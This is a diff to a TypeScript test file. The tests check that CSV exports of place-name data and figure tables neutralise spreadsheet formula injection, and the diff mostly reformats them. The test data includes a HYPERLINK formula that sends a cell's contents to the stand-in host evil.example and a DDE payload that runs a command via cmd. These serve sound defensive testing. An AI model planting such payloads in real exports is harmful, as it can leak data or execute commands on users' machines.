@@ -3,7 +3,7 @@ import { figureCsv } from '../../src/lib/figure.ts';
 import { toCsv } from '../../src/lib/result-export.ts';
 import { spreadsheetSafe } from '../../src/lib/spreadsheet-safe.ts';
 
-const HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"Xã Một")', '+cmd|\' /C calc\'!A0', '-2+3', '@SUM(A1:A9)', '\tX', '\rX'];
+const HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"Xã Một")', "+cmd|' /C calc'!A0", '-2+3', '@SUM(A1:A9)', '\tX', '\rX'];
 
 describe('CSV for spreadsheets never runs a formula from data (OWASP)', () => {
   it.each(HOSTILE)('neutralises text starting like a formula: %j', (text) => {
@@ -13,7 +13,11 @@ describe('CSV for spreadsheets never runs a formula from data (OWASP)', () => {
     for (const text of ['Xã Một', 'Phường Hà Khánh', '06649', 'a=b']) expect(spreadsheetSafe(text)).toBe(text);
   });
   it('in explore exports: text cells neutralised, numbers stay numbers (also negative ones)', () => {
-    const csv = toCsv({ columns: ['unit_name', 'change'], types: ['Utf8', 'Int32'], rows: HOSTILE.map((t, i) => ({ unit_name: t, change: -i })) });
+    const csv = toCsv({
+      columns: ['unit_name', 'change'],
+      types: ['Utf8', 'Int32'],
+      rows: HOSTILE.map((t, i) => ({ unit_name: t, change: -i })),
+    });
     const lines = csv.trim().split('\n');
     expect(lines[1]).toBe('"\'=HYPERLINK(""http://evil.example/?x=""&A1,""Xã Một"")",0');
     expect(lines[2]).toBe("'+cmd|' /C calc'!A0,-1");
@@ -21,8 +25,16 @@ describe('CSV for spreadsheets never runs a formula from data (OWASP)', () => {
   });
   it('in figure data files', () => {
     const csv = figureCsv({
-      illustrative: true, source: '=evil()',
-      table: { columns: [{ key: 'name', label: 'Name', numeric: false }, { key: 'v', label: 'V', numeric: true }], rowHeader: 0, rows: [{ key: 'a', cells: [], values: ['@x', -4] }] },
+      illustrative: true,
+      source: '=evil()',
+      table: {
+        columns: [
+          { key: 'name', label: 'Name', numeric: false },
+          { key: 'v', label: 'V', numeric: true },
+        ],
+        rowHeader: 0,
+        rows: [{ key: 'a', cells: [], values: ['@x', -4] }],
+      },
     });
     expect(csv).toBe("name,v,illustrative,source\r\n'@x,-4,true,'=evil()\r\n");
   });
